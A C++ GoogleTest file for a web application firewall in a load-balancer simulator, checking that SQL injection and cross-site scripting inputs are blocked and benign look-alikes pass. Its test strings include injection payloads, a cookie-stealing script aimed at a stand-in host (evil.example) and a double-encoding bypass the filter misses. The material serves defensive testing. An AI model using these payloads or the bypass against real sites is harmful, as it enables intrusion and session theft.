// SPDX-License-Identifier: GPL-3.0-or-later
#include "l7/waf.hpp"

#include <gtest/gtest.h>

namespace lbsim::l7 {
namespace {

RequestView at_path(std::string_view path) {
  RequestView request;
  request.path = path;
  return request;
}

// The rule id that blocks `query` on a plain GET /, or "" when it passes.
std::string_view rule_for_query(std::string_view query) { return waf_inspect(at_path("/"), query).rule_id; }

TEST(Waf, EverySignatureBlocksItsOwnPhrase) {
  for (const WafSignature& signature : waf_signatures()) {
    const std::string query = "x=1" + std::string(signature.phrase) + "2";
    const WafVerdict verdict = waf_inspect(at_path("/"), query);
    EXPECT_TRUE(verdict.blocked) << signature.phrase;
    EXPECT_EQ(verdict.status, 403);
    EXPECT_EQ(verdict.rule_id, signature.rule_id) << signature.phrase;
  }
}

TEST(Waf, SignaturesAreWrittenAsTheyReadAfterDecoding) {
  for (const WafSignature& signature : waf_signatures()) EXPECT_EQ(waf_normalize(signature.phrase), signature.phrase);
}

TEST(Waf, BlocksSqlInjection) {
  EXPECT_EQ(rule_for_query("user=admin' or 1=1"), "sqli-tautology");
  EXPECT_EQ(rule_for_query("user=x' or '1'='1"), "sqli-tautology");
  EXPECT_EQ(rule_for_query("id=1 union select password from users"), "sqli-union-select");
  EXPECT_EQ(rule_for_query("name=x'; DROP TABLE users"), "sqli-drop-table");
  EXPECT_EQ(rule_for_query("name=x';drop table users"), "sqli-drop-table");
  EXPECT_EQ(rule_for_query("user=admin'--"), "sqli-quote-comment");
  EXPECT_EQ(rule_for_query("user=admin' -- "), "sqli-quote-comment");
  EXPECT_EQ(rule_for_query("id=1/*comment*/"), "sqli-comment");
  EXPECT_EQ(rule_for_query("id=1 and sleep(5)"), "sqli-sleep");
  EXPECT_EQ(rule_for_query("id=benchmark(1000000,md5(1))"), "sqli-benchmark");
}

TEST(Waf, BlocksCrossSiteScripting) {
  EXPECT_EQ(rule_for_query("q=<script>alert(1)</script>"), "xss-script-tag");
  EXPECT_EQ(rule_for_query("next=javascript:alert(1)"), "xss-javascript-uri");
  EXPECT_EQ(rule_for_query("q=<img src=x onerror=alert(1)>"), "xss-onerror");
  EXPECT_EQ(rule_for_query("q=<body onload=alert(1)>"), "xss-onload");
  EXPECT_EQ(rule_for_query("q=<iframe src=//evil.example>"), "xss-iframe-tag");
  EXPECT_EQ(rule_for_query("q=new Image().src='//evil.example/?'+document.cookie"), "xss-document-cookie");
}

TEST(Waf, CatchesEncodedAndDisguisedSpellings) {
  EXPECT_EQ(rule_for_query("id=1%20UNION%20SELECT%20password"), "sqli-union-select");  // percent-encoded, upper case
  EXPECT_EQ(rule_for_query("id=1+UnIoN+sElEcT+1"), "sqli-union-select");             // '+' is a space
  EXPECT_EQ(rule_for_query("id=1 UNION\t\r\n  SELECT 1"), "sqli-union-select");      // a run of whitespace is one space
  EXPECT_EQ(rule_for_query("id=1%0aunion%09select"), "sqli-union-select");           // encoded newline and tab
  EXPECT_EQ(rule_for_query("user=x%27%20OR%20%271%27%3D%271"), "sqli-tautology");    // x' OR '1'='1
  EXPECT_EQ(rule_for_query("q=%3CScRiPt%3Ealert(1)"), "xss-script-tag");
  EXPECT_EQ(rule_for_query("next=JaVaScRiPt%3Aalert(1)"), "xss-javascript-uri");
  // A comment as keyword separator dodges "union select" but is a signature itself.
  EXPECT_EQ(rule_for_query("id=1 union/**/select 1"), "sqli-comment");
}

TEST(Waf, DecodesOnceOnly) {
  // %253C decodes to the text "%3C", not to '<': a double-encoded payload passes (a
  // backend that decodes twice would be fooled; the OWASP CRS decodes again for that).
  EXPECT_EQ(waf_normalize("%253Cscript"), "%3cscript");
  EXPECT_FALSE(waf_inspect(at_path("/"), "q=%253Cscript%253E").blocked);
}

TEST(Waf, BareKeywordsAndLookAlikesPass) {
  // The rule: a signature is a phrase of SQL or HTML syntax, never a keyword alone.
  const std::string_view benign_paths[] = {"/selection", "/union-station", "/scripts/app.js", "/blog/o'reilly",
                                           "/a--b", "/sleep/tips", "/docs/onload", "/benchmarks"};
  for (std::string_view path : benign_paths) EXPECT_FALSE(waf_inspect(at_path(path), "").blocked) << path;
  const std::string_view benign_queries[] = {"q=union",         "q=select+a+plan",     "q=drop+table+tennis",
                                             "q=it's+fine",     "q=sleep+well",        "q=document",
                                             "discount=100%",   "q=%zz%4",             "sort=asc&order=desc",
                                             "q=1%3D1",         "email=a%2Bb%40x.org", "q=javascript+tutorial"};
  for (std::string_view query : benign_queries) EXPECT_FALSE(waf_inspect(at_path("/"), query).blocked) << query;
}

TEST(Waf, ReportsWhereItMatched) {
  const Field headers[] = {{"User-Agent", "Mozilla/5.0 (X11; Linux x86_64)"}, {"X-Search", "1 UNION SELECT 1"}};
  const Field cookies[] = {{"theme", "dark"}, {"prefs", "<img src=x onerror=alert(1)>"}};
  RequestView request;
  request.path = "/search";
  request.headers = headers;
  EXPECT_EQ(waf_inspect(request, "q=shoes").where(), "header:X-Search");
  request.headers = {};
  request.cookies = cookies;
  const WafVerdict verdict = waf_inspect(request, "q=shoes");
  EXPECT_TRUE(verdict.blocked);
  EXPECT_EQ(verdict.rule_id, "xss-onerror");
  EXPECT_EQ(verdict.part, "cookie");
  EXPECT_EQ(verdict.name, "prefs");
  EXPECT_EQ(verdict.where(), "cookie:prefs");
  EXPECT_EQ(waf_inspect(request, "id=1' or 1=1").where(), "query");  // the query is read before cookies
  request.path = "/<script>";
  EXPECT_EQ(waf_inspect(request, "id=1' or 1=1").where(), "path");  // and the path before the query
}

TEST(Waf, SkipsAcceptAndTheRawCookieHeader) {
  const Field headers[] = {{"Accept", "text/html, */*;q=0.8"}, {"Cookie", "prefs=<script>"}};
  const Field cookies[] = {{"prefs", "<script>"}};
  RequestView request;
  request.headers = headers;
  EXPECT_FALSE(waf_inspect(request, "").blocked);  // "*/*" is not a SQL comment
  request.cookies = cookies;
  EXPECT_EQ(waf_inspect(request, "").where(), "cookie:prefs");  // named by cookie, not "header:Cookie"
  // Any other header is read: the same media range there trips the comment rule.
  const Field other[] = {{"X-Accept", "*/*"}};
  request.headers = other;
  request.cookies = {};
  EXPECT_EQ(waf_inspect(request, "").rule_id, "sqli-comment");
}

TEST(Waf, AnAllowedRequestHasNoVerdictDetails) {
  const WafVerdict verdict = waf_inspect(at_path("/api/users"), "page=2");
  EXPECT_FALSE(verdict.blocked);
  EXPECT_EQ(verdict.status, 0);
  EXPECT_TRUE(verdict.rule_id.empty());
  EXPECT_EQ(verdict.where(), "");
}

TEST(Waf, NormalizesLikeTheDocumentSays) {
  EXPECT_EQ(waf_normalize("%27%20OR%201%3D1"), "' or 1=1");
  EXPECT_EQ(waf_normalize("a+b"), "a b");
  EXPECT_EQ(waf_normalize("A \t\r\n B"), "a b");
  EXPECT_EQ(waf_normalize("100%"), "100%");
  EXPECT_EQ(waf_normalize("%zz%4"), "%zz%4");
  EXPECT_EQ(to_string(Attack::sql_injection), "sqli");
  EXPECT_EQ(to_string(Attack::cross_site_scripting), "xss");
}

}  // namespace
}  // namespace lbsim::l7
